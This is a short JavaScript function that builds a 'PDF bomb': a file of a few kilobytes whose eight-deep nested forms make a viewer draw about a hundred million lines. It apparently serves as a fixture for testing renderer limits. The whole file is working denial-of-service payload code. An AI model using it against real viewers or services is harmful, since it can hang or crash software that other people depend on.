// A PDF of a few kB whose page draws a hundred million lines, by forms that each draw the next one many times.
export function bomb() {
  const depth = 8;
  const objects = ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"];
  const stream = (dictionary, content) => `<< ${dictionary} /Length ${content.length} >>\nstream\n${content}\nendstream`;
  const drawn = "/F Do ".repeat(10);
  objects.push("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /F 5 0 R >> >> /Contents 4 0 R >>");
  objects.push(stream("", drawn));
  for (let i = 0; i < depth; i += 1) {
    const isLast = i === depth - 1;
    const resources = isLast ? "" : `/Resources << /XObject << /F ${6 + i} 0 R >> >>`;
    objects.push(stream(`/Type /XObject /Subtype /Form /BBox [0 0 595 842] ${resources}`, isLast ? "0 0 m 9 9 l S ".repeat(100) : drawn));
  }
  let file = "%PDF-1.7\n";
  const places = objects.map((object, i) => {
    const at = file.length;
    file += `${i + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const start = file.length;
  file += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.map((at) => `${String(at).padStart(10, "0")} 00000 n \n`).join("")}`;
  file += `trailer << /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(file, "latin1");
}
